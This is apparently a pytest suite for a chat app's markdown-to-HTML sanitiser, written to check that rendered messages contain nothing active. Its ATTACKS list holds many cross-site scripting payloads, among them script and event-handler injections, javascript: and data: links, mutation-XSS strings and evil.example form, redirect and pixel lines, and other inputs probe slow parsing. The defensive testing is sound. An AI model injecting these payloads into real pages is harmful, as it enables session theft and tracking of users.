"""Markdown as HTML in which nothing is active, whatever a model or a person writes."""

from html.parser import HTMLParser

import pytest

from chats.markdown import ATTRIBUTES, TAGS, to_html
from chats.tests.helpers import fake
from conftest import Person


class Parsed(HTMLParser):
    """Collects every tag and attribute as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**Bold** and *thin*", "<p><strong>Bold</strong> and <em>thin</em></p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("# Title", "<h1>Title</h1>\n"),
        ("~~gone~~", "<p><del>gone</del></p>\n"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
        ("`a < b`", "<p><code>a &lt; b</code></p>\n"),
        ("if a<b and c>d", "<p>if a&lt;b and c&gt;d</p>\n"),
        ("", ""),
    ],
)
def test_what_people_write_is_rendered(markdown: str, html: str) -> None:
    assert to_html(markdown) == html


@pytest.mark.parametrize("language", ["python", "c++", "objective-c", "js"])
def test_a_fence_has_its_language_as_a_class(language: str) -> None:
    html = to_html(f"```{language}\nif a < b && c:\n    x()\n```")

    assert html == f'<pre><code class="language-{language}">if a &lt; b &amp;&amp; c:\n    x()\n</code></pre>\n'


def test_a_fence_cannot_smuggle_other_classes() -> None:
    for info in ('python" onload="x', "language-x y", "x<script>", "a b c", "\u202e"):
        for _, attributes in Parsed(to_html(f"```{info}\nx\n```")).tags:
            assert set(attributes) <= {"class"}
            assert " " not in (attributes.get("class") or "")


def test_a_table_has_head_body_and_alignment() -> None:
    html = to_html("| a | b |\n| --- | ---: |\n| 1 | 2 |")

    assert [tag for tag, _ in Parsed(html).tags] == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]
    assert 'align="right"' in html


def test_links_open_apart_and_carry_no_referrer() -> None:
    for markdown in ("[x](https://example.org)", "https://example.org", "<https://example.org>"):
        (_, attributes) = next(item for item in Parsed(to_html(markdown)).tags if item[0] == "a")
        assert attributes["href"] == "https://example.org"
        assert set((attributes["rel"] or "").split()) == {"noopener", "noreferrer", "nofollow"}
        assert attributes["target"] == "_blank"


def test_raw_html_is_shown_as_text() -> None:
    parsed = Parsed(to_html("<b>not bold</b> <script>alert(1)</script> <!-- hidden -->"))

    assert [tag for tag, _ in parsed.tags] == ["p"]
    assert parsed.text.strip() == "<b>not bold</b> <script>alert(1)</script> <!-- hidden -->"


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=x></form>",
    "<object data=x></object><embed src=x><video src=x onerror=alert(1)><audio src=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<script/xss src=https://evil.example>",
    "<<script>alert(1)//<</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example\" onmouseover=\"alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    "![x][y]\n\n[y]: https://evil.example/p.png",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<https://a.example/?\"onmouseover=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "- [ ] <input type=image src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ufdd1script\ufdd1alert(1)",
    "<a@b.example onclick=alert(1)>",
    "<x:y onclick=alert(1)>",
    "<https://a.example onclick=alert(1)>",
    "www.example.org/\"onclick=alert(1)",
    "[x](mailto:a@b.example?\"onclick=alert(1))",
]  # fmt: skip


@pytest.mark.parametrize(
    "frame", ["{}", "text {} text", "> {}", "- {}", "**{}**", "[{}](https://a.example)", "{}\n\n{}"]
)
def test_nothing_active_survives(frame: str) -> None:
    for attack in ATTACKS:
        for tag, attributes in Parsed(to_html(frame.replace("{}", attack))).tags:
            assert tag in TAGS - {"sup", "section"}, attack
            allowed = ATTRIBUTES.get(tag, set()) | ({"rel", "target"} if tag == "a" else set())
            assert set(attributes) <= allowed, attack
            assert (attributes.get("href") or "https:").startswith(("http:", "https:", "mailto:")), attack
            assert (attributes.get("type") or "checkbox") == "checkbox", attack


def test_an_address_may_not_hide_where_it_leads() -> None:
    for markdown in ("[x](//evil.example)", "[x](/admin/logout/)", "[x](#top)"):
        for _, attributes in Parsed(to_html(markdown)).tags:
            assert not (attributes.get("href") or "").startswith("//")


REPEATED = [
    "[", "![", "(", "*", "_", "`", "~", "<", ">", "> ", "- ", "1. ", "|", "&", "\\", "[a](", "<a ", "<!--", "**a ",
    "_a", "a**", "[^1]", "```\n", "| a ", "https://", "www.", "a@", "<https:", "](<", "\ufdd1", "[x]: y\n", "*a_", "&#",
]  # fmt: skip


@pytest.mark.parametrize("unit", REPEATED)
def test_an_input_of_many_repetitions_is_rendered(unit: str) -> None:
    """Some parsers need quadratic time for these; the suite would not end."""
    assert isinstance(to_html(unit * (200_000 // len(unit))), str)


@pytest.mark.parametrize(("opening", "closing"), [("**", "**"), ("*", "*"), ("[", "](x)"), ("_a ", " b_")])
def test_what_is_nested_very_deep_is_rendered(opening: str, closing: str) -> None:
    assert "inside" in to_html(opening * 50_000 + "inside" + closing * 50_000)


def test_quotes_within_quotes_are_kept_up_to_a_depth() -> None:
    assert to_html("> " * 90 + "x").count("<blockquote>") == 90
    assert to_html("> " * 5000 + "<b>x").rstrip().endswith("&gt; &lt;b&gt;x</code></pre>")


def test_html_comes_only_where_it_is_asked_for(alice: Person) -> None:
    chat = alice.chat()
    reply = alice.post(f"/api/chats/{chat}/messages/?html=1", {"content": fake(text="*x*")}).json()["reply"]

    plain, html = (alice.get(f"/api/chats/{chat}/messages/{query}").json()["results"][-1] for query in ("", "?html=1"))

    assert reply["content_html"] == html["content_html"] == "<p><em>x</em></p>\n"
    assert "content_html" not in plain
    assert plain["content"] == html["content"] == "*x*"
